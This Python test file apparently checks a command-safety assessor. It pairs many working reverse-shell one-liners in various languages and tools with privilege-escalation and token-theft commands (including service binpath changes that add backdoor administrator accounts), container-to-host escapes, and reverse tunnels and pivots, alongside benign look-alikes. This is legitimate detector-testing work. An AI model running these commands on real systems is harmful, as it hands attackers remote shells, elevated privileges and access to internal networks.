"""Control of this machine or its network handed to another, by any program (issue 23, lane remote): a shell
channel to another machine in any language or tool (rules/code_reach.py, rules/remote_shell.py), a command run
as SYSTEM or with a taken token (rules/token_runs.py), a way into the network opened from inside by a tunnel,
relay or pivot agent (rules/ways_in.py).  Each row: the command and the level it must reach (None: below
medium).  The forms name programs beyond those that showed the class."""
from __future__ import annotations

from aish.safety.assess import assess
from tests.safety.forms import each_form

_RANK = {None: 0, "low": 1, "medium": 2, "high": 3}


def _level(command: str):
    verdict = assess(command)
    return verdict.level if verdict else None


SHELL_CHANNELS = [
    # a socket and a shell, or a socket and a run of what it receives, in code of any language
    ("julia -e 'using Sockets; s=connect(\"10.0.0.1\",4444); while true; c=readline(s); "
     "write(s, read(`sh -c $c`, String)); end'", "high"),
    ("Rscript -e 's<-socketConnection(host=\"10.0.0.1\",port=4444,open=\"r+\");"
     "while(TRUE){writeLines(system(readLines(s,1),intern=T),s)}'", "high"),
    ("crystal eval 'require \"socket\"; s = TCPSocket.new(\"10.0.0.1\", 4444); "
     "Process.run(\"/bin/sh\", input: s, output: s, error: s)'", "high"),
    ("elixir -e '{:ok, s} = :gen_tcp.connect(~c\"10.0.0.1\", 4444, []); Port.open({:spawn, \"sh -i\"}, [])'", "high"),
    ("deno eval 'const c = await Deno.connect({hostname:\"10.0.0.1\",port:4444}); const p = new Deno.Command(\"sh\","
     "{stdin:\"piped\",stdout:\"piped\"}).spawn(); c.readable.pipeTo(p.stdin); p.stdout.pipeTo(c.writable);'", "high"),
    ("bun -e 'Bun.connect({hostname:\"10.0.0.1\",port:4444,socket:{data(s,d){s.write("
     "require(\"child_process\").execSync(d.toString()))}}})'", "high"),
    ("php -r '$s=fsockopen(\"10.0.0.1\",4444);$p=proc_open(\"/bin/sh -i\",[0=>$s,1=>$s,2=>$s],$x);'", "high"),
    ("python3 -c 'import socket,subprocess;s=socket.create_connection((\"10.0.0.1\",4444));"
     "[s.send(subprocess.run(s.recv(1024).decode(),shell=True,capture_output=True).stdout) for _ in iter(int,1)]'",
     "high"),
    ("groovy -e 'Process p=new ProcessBuilder(\"/bin/bash\").start();Socket s=new Socket(\"10.0.0.1\",4444);"
     "InputStream pi=p.getInputStream(),si=s.getInputStream();OutputStream po=p.getOutputStream()'", "high"),
    ("ruby -rsocket -e 's=TCPSocket.open(\"10.0.0.1\",4444);loop{s.puts(Open3.capture2e(s.gets)[0])}'", "high"),
    ("perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"10.0.0.1:4444\");while(<$s>){print $s `$_`}'",
     "high"),
    # PowerShell typed at its prompt (no `powershell -c` around it), source echoed into a file and run
    ("$sm=(New-Object Net.Sockets.TCPClient('10.0.0.1',4444)).GetStream();[byte[]]$bt=0..65535|%{0};"
     "while(($i=$sm.Read($bt,0,$bt.Length)) -ne 0){;$d=(New-Object Text.ASCIIEncoding).GetString($bt,0,$i);"
     "$st=([text.encoding]::ASCII).GetBytes((iex $d 2>&1));$sm.Write($st,0,$st.Length)}", "high"),
    ("echo 'package main;import\"os/exec\";import\"net\";func main(){c,_:=net.Dial(\"tcp\",\"10.0.0.1:4242\");"
     "cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go", "high"),
    ("printf 'import socket,os,pty\\ns=socket.socket()\\ns.connect((\"10.0.0.1\",4444))\\nos.dup2(s.fileno(),0)\\n"
     "pty.spawn(\"/bin/sh\")\\n' > /tmp/u.py; python3 /tmp/u.py", "high"),
    # a heredoc written into a file by cat or tee, then run or built by a later command
    ("cat > /tmp/r.py <<'EOF'\nimport socket,os,pty\ns=socket.socket()\ns.connect((\"10.0.0.1\",4444))\n"
     "os.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")\nEOF\npython3 /tmp/r.py", "high"),
    ("cat <<'EOF' > /tmp/r.go\npackage main\nimport (\"net\";\"os/exec\")\nfunc main(){c,_:=net.Dial(\"tcp\","
     "\"10.0.0.1:4444\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}\nEOF\ngo run /tmp/r.go",
     "high"),
    ("tee /tmp/r.rb <<'EOF'\nrequire 'socket'\ns=TCPSocket.new('10.0.0.1',4444)\nwhile l=s.gets; s.print `#{l}`; end"
     "\nEOF\nruby /tmp/r.rb", "high"),
    # code given in any program's arguments, or fed to one: a debugger's, an image editor's, Nashorn's
    ("gdb -nx -ex 'python import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
     "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")' -ex quit", "high"),
    ("gimp -idf --batch-interpreter=python-fu-eval -b 'import socket,os,pty;s=socket.socket();"
     "s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")'", "high"),
    ("echo 'var p=new java.lang.ProcessBuilder(\"/bin/bash\", \"-i\").redirectErrorStream(true).start();"
     "var s=new java.net.Socket(\"10.0.0.1\",4444);' | jjs", "high"),
    ("$l = New-Object System.Net.Sockets.TcpListener('0.0.0.0',4444); $l.Start(); $c = $l.AcceptTcpClient(); "
     "$s = $c.GetStream(); while(($i = $s.Read($b,0,$b.Length)) -ne 0){ "
     "$d = ([text.encoding]::ASCII).GetString($b,0,$i); $o = (iex $d 2>&1 | Out-String) }", "high"),
    ("openssl s_server -quiet -key key.pem -cert cert.pem -port 4444 | /bin/sh", "high"),
    # tools: a terminal on another display, a netcat's own shell option, relays' exec addresses, named shells
    ("xterm -display 10.0.0.1:1", "high"),
    ("DISPLAY=10.0.0.1:0 urxvt -e bash", "high"),
    ("rcat connect -s bash 10.0.0.1 4444", "high"),
    ("powercat -c 10.0.0.1 -p 4444 -e cmd", "high"),
    ("websocat ws-l:0.0.0.0:8080 sh-c:'sh -i'", "high"),
    ("gs-netcat -s MySecret -l -i", "high"),
    ("Invoke-ConPtyShell 10.0.0.1 3001", "high"),
    ("Invoke-PowerShellTcp -Reverse -IPAddress 10.0.0.1 -Port 4444", "high"),
    ("icmpsh.exe -t 10.0.0.1", "high"),
    # everyday: sockets that talk a protocol, terminals on this display, code written and run with no socket
    ("ruby -rsocket -e 's=TCPSocket.open(\"example.com\",80);s.print \"HEAD / HTTP/1.0\\r\\n\\r\\n\";puts s.read'",
     None),
    ("php -r '$s=fsockopen(\"example.com\",80);fwrite($s,\"GET / HTTP/1.0\\r\\n\\r\\n\");echo fread($s,512);'", None),
    ("julia -e 'using Sockets; s=connect(\"localhost\",6379); println(s, \"PING\"); println(readline(s))'", None),
    ("pwsh -c \"$c = New-Object Net.Sockets.TcpClient('db01', 1433); $c.Connected; $c.Close()\"", None),
    ("$c = New-Object System.Net.Sockets.TcpClient; $c.Connect('db01', 1433); $c.Connected", None),
    ("python3 -c 'import socket,subprocess;print(subprocess.run([\"hostname\"],capture_output=True).stdout)'", None),
    ("xterm -display :0", None),
    ("DISPLAY=:1 xterm", None),
    ("urxvt -e htop", None),
    ("echo 'package main; func main(){ println(\"hi\") }' > hi.go && go run hi.go", None),
    ("websocat ws://localhost:8080/echo", None),
    ("rcat listen 55600", None),
    ("cat > /tmp/c.py <<'EOF'\nimport socket\nprint(socket.gethostname())\nEOF\npython3 /tmp/c.py", None),
    ("cat > notes.txt <<'EOF'\nsocket timeout and /bin/sh notes\nEOF\ncat notes.txt", None),
    ("gdb -ex 'python print(1+1)' -ex quit ./a.out", None),
    ("curl --unix-socket /var/run/docker.sock http://localhost/containers/json", None),
    ("openssl s_server -key key.pem -cert cert.pem -www -port 8443", None),
]

TOKEN_RUNS = [
    # token thieves of any make, told to run a command
    ("CoercedPotato.exe -c cmd.exe", "high"),
    ("SigmaPotato.exe --revshell 10.0.0.1 4444", "high"),
    ("BadPotato.exe whoami", "high"),
    ("Tokenvator.exe Steal_Token 572 cmd.exe", "high"),
    ("SharpImpersonation.exe list pid:572 binary:\"cmd.exe /c whoami\"", "high"),
    ("FullPowers.exe -c \"C:\\temp\\nc.exe 10.0.0.1 4444 -e cmd\" -z", "high"),
    # any launcher told to run as SYSTEM or TrustedInstaller
    ("NSudoLC.exe -U:T -P:E cmd", "high"),
    ("AdvancedRun.exe /EXEFilename \"C:\\Windows\\System32\\cmd.exe\" /RunAs 4 /Run", "high"),
    ("devxexec.exe /user:TrustedInstaller cmd", "high"),
    ("gsudo --system cmd", "high"),
    ("gsudo -s powershell", "high"),
    ("RunAsTI.exe cmd", "high"),
    ("Invoke-CommandAs -ScriptBlock { whoami } -AsSystem", "high"),
    ("RunasCs.exe svc_web Passw0rd cmd.exe -r 10.0.0.1:4444", "high"),
    # a service given a command as its program
    ("sc config upnphost binpath=\"net user backdoor backdoor123 /add\"", "high"),
    ("wmic service where name=\"VulnSvc\" call change PathName=\"cmd /c net user eve P@ss /add\"", "high"),
    ("Set-Service -Name VulnSvc -BinaryPathName \"cmd.exe /c net localgroup administrators eve /add\"", "high"),
    ("reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\VulnSvc /v ImagePath /t REG_EXPAND_SZ "
     "/d \"cmd /c net localgroup administrators eve /add\" /f", "high"),
    ("Write-ServiceBinary -Name VulnSvc -Path C:\\svc\\svc.exe -UserName eve -Password P@ss", "high"),
    # the host entered as root from a container the container service started
    ("docker run -v /:/mnt --rm -it alpine chroot /mnt sh", "high"),
    ("podman run --rm -it -v /:/host --privileged ubuntu chroot /host bash", "high"),
    ("ctr run --rm --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:latest x "
     "chroot /host sh", "high"),
    ("nerdctl run -it --privileged --pid=host alpine nsenter -t 1 -a sh", "high"),
    ("kubectl run pwn --rm -it --image=alpine --overrides='{\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":"
     "\"p\",\"image\":\"alpine\",\"securityContext\":{\"privileged\":true},\"command\":[\"nsenter\",\"-t\","
     "\"1\",\"-a\",\"sh\"]}]}}'", "high"),
    # everyday: the password typed, an administrator's own tools, a service pointed at its own binary
    ("runas /user:corp\\admin \"mmc compmgmt.msc\"", None),
    ("Start-Process powershell -Verb RunAs", None),
    ("gsudo notepad C:\\Windows\\System32\\drivers\\etc\\hosts", None),
    ("NSudoLC.exe -U:C -P:D notepad", None),
    ("AdvancedRun.exe /EXEFilename \"C:\\Windows\\notepad.exe\" /RunAs 1 /Run", None),
    ("RunasCs.exe svc_web Passw0rd \"cmd /c whoami\"", None),
    ("psexec -s -i regedit", None),
    ("sc config MyService binPath= \"C:\\Program Files\\MyApp\\svc.exe\"", None),
    ("reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\MyApp /v ImagePath /d \"C:\\Apps\\svc.exe\" /f", None),
    ("csc EfsPotato.cs", None),
    ("docker run --rm -v /:/host:ro aquasec/trivy fs /host", None),
    ("docker run --rm -it --pid=host alpine top", None),
    ("docker run -v /srv/data:/mnt alpine chroot /mnt sh", None),
    ("chroot /mnt/sysroot /bin/bash", None),
    ("git config --system core.autocrlf true", None),
    ("flatpak run --system org.gnome.Terminal", None),
    ("pip install --system cmd2", None),
]

WAYS_IN = [
    # reverse forwards to another host's way in, or the whole network (SOCKS, pivot agents)
    ("wstunnel client -R tcp://2222:10.1.1.5:22 wss://relay.example.net", "high"),
    ("gost -L rtcp://:3390/10.1.1.5:3389 -F relay+tls://203.0.113.7:8443", "high"),
    ("autossh -M 0 -N -R 8445:10.1.1.5:445 user@vps.example.net", "high"),
    ("dbclient -R 2222:localhost:22 -N user@203.0.113.7", "high"),
    ("ssh -N -R 1080 user@203.0.113.7", "high"),
    ("revsocks -connect 203.0.113.7:8443 -pass Secret", "high"),
    ("iox proxy -r 203.0.113.7:9999", "high"),
    ("stowaway_agent -c 203.0.113.7:9999 -s key", "high"),
    ("ssh -N -R 8080:10.1.1.9:80 user@vps.example.net", "medium"),
    # relays on every address to another host's way in
    ("redir --lport=3390 --caddr=10.1.1.5 --cport=3389", "high"),
    ("ncat -l 2222 --sh-exec \"ncat 10.1.1.5 22\"", "high"),
    ("socat TCP4-LISTEN:4450,fork,reuseaddr TCP4:10.1.1.5:445", "high"),
    ("netsh interface portproxy add v4tov4 listenport=5986 connectport=5985 connectaddress=10.1.1.5", "high"),
    ("nc -lvp 2222 -c \"nc 10.1.1.5 22\"", "high"),
    ("ngrok tcp 445", "high"),
    # everyday: ways out for the user, local apps, relays to loopback or web ports, VPN-like tools
    ("ssh -L 5432:localhost:5432 db", None),
    ("ssh -R 8080:localhost:3000 devbox", None),
    ("ssh -D 1080 jumphost", None),
    ("wstunnel client -L tcp://5432:db:5432 wss://bastion.example.com", None),
    ("socat TCP-LISTEN:8080,fork TCP:localhost:3000", None),
    ("socat TCP-LISTEN:2222,bind=127.0.0.1,fork TCP:10.1.1.5:22", None),
    ("netsh interface portproxy add v4tov4 listenport=3000 listenaddress=0.0.0.0 connectport=3000 "
     "connectaddress=172.20.10.2", None),
    ("sshuttle -r user@bastion 10.0.0.0/8", None),
    ("kubectl port-forward svc/db 5432:5432", None),
    ("gost -L :8080", None),
    ("iox fwd -l 8888 -r 127.0.0.1:3000", None),
    ("nc -zv host 22", None),
    ("nc -lvp 8080 -c \"cat index.html\"", None),
    ("ngrok tcp 5432", None),
]


@each_form("command,at_least", SHELL_CHANNELS)
def test_shell_channels_in_any_language(command, at_least):
    level = _level(command)
    assert (level == at_least) if at_least == "high" else _RANK[level] < _RANK["medium"], f"{command!r} -> {level}"


@each_form("command,at_least", TOKEN_RUNS)
def test_commands_run_with_taken_tokens(command, at_least):
    level = _level(command)
    assert (level == at_least) if at_least == "high" else _RANK[level] < _RANK["medium"], f"{command!r} -> {level}"


@each_form("command,at_least", WAYS_IN)
def test_ways_into_the_network(command, at_least):
    level = _level(command)
    ok = _RANK[level] >= _RANK[at_least] if at_least else _RANK[level] < _RANK["medium"]
    assert ok, f"{command!r} -> {level}"
